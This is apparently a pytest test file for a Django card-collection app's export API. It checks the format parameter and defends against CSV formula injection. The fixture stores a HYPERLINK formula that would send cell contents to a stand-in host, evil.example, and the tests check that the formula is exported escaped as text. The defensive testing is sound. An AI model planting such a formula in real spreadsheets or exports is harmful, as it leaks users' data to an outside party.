"""Collection exports: the documented `?format=` works on the API, and no cell is a spreadsheet formula."""

import csv
import io

import pytest

from cardcollections.collection.services import collection_set
from cardcollections.models import Card
from cardcollections.models import CollectionEntry

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


@pytest.fixture
def alices_cards(small_catalogs, alice):
    card = Card.objects.filter(game__slug="chapter-and-verse").order_by("pk").first()
    collection_set(owner=alice, card=card, quantity=2, notes=FORMULA)
    return card


@pytest.mark.parametrize(("fmt", "content_type"), [("csv", "text/csv"), ("decklist", "text/plain")])
def test_the_documented_format_parameter_chooses_the_export(token_alice, alices_cards, fmt, content_type):
    response = token_alice.get(f"/api/v1/collection/export/?game=chapter-and-verse&format={fmt}")
    assert response.status_code == 200, response.content
    assert response["Content-Type"].startswith(content_type)
    assert alices_cards.title in response.content.decode()


def test_an_unknown_format_is_a_400_naming_it(token_alice, alices_cards):
    response = token_alice.get("/api/v1/collection/export/?game=chapter-and-verse&format=xlsx")
    assert response.status_code == 400 and response.json()["field"] == "format"


def test_a_formula_in_the_notes_is_written_as_text_and_reads_back_the_same(token_alice, alice, alices_cards):
    exported = token_alice.get("/api/v1/collection/export/?game=chapter-and-verse&format=csv").content.decode()
    rows = list(csv.DictReader(io.StringIO(exported)))
    assert rows[0]["Notes"] == "'" + FORMULA
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row.values() if cell)
    response = token_alice.post(
        "/api/v1/collection/imports/",
        {"game": "chapter-and-verse", "text": exported, "mode": "replace"},
        format="json",
    )
    assert response.status_code == 201, response.content
    assert CollectionEntry.objects.get(owner=alice, card=alices_cards).notes == FORMULA
